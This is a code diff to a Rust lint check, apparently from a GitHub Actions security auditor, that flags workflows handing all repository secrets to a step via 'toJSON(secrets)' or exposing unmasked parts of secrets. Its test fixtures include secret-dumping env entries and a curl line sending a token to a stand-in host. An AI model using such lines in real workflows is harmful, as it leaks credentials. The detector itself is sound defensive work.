@@ -1,8 +1,8 @@
 //! `gha/secret-leak`: a secret that a job prints or sends along.
 
 use super::{
-    Card, Category, Check, Confidence, File, HARDENING, OWASP, Report, Severity, expression, see,
-    workflow,
+    Card, Category, Check, Confidence, File, HARDENING, OWASP, Report, Severity, Value, expression,
+    see, workflow,
 };
 use crate::audit::limit;
 
@@ -28,6 +28,37 @@ impl Check<File<'_>> for SecretLeak {
                 see(report, &CARD, severity, span, why.to_owned());
             }
         }
+        let roots = std::iter::once(file.root).chain(file.jobs.iter().map(|job| job.root));
+        let steps = file.steps().map(|(_, step)| step);
+        for root in roots.chain(steps) {
+            let given = ["env", "with"].into_iter().filter_map(|key| root.get(key));
+            for entry in given.flat_map(Value::entries) {
+                if let Some((severity, why)) = entry.value.text().and_then(handed_on) {
+                    see(report, &CARD, severity, entry.value.span(), why.to_owned());
+                }
+            }
+        }
+    }
+}
+
+/// How a variable of the environment, or an input of an action, gives secrets away.
+fn handed_on(value: &str) -> Option<(Severity, &'static str)> {
+    let is_meant = |sign: &str| {
+        let mut inside = expression::expressions(value);
+        inside.any(|(_, inside)| inside.to_ascii_lowercase().replace(' ', "").contains(sign))
+    };
+    if is_meant("tojson(secrets)") {
+        Some((
+            Severity::Medium,
+            "every secret of the repository is handed on at once",
+        ))
+    } else if is_meant("fromjson(secrets.") {
+        Some((
+            Severity::Low,
+            "a part of a secret is taken out, which GitHub does not mask",
+        ))
+    } else {
+        None
     }
 }
 
@@ -118,6 +149,9 @@ static CARD: Card = Card {
         ),
         workflow(
             "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          true\n          env='${{ toJSON(secrets) }}' # here\n",
+        ),
+        workflow(
+            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./deploy\n        env:\n          ALL: ${{ toJSON(secrets) }} # here\n          PART: ${{ fromJSON(secrets.APP).key }} # here\n          ONE: ${{ secrets.KEY }}\n",
         ),
         workflow(
             "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl \"https://a.example/x?token=${{ secrets.TOKEN }}\" # here\n",
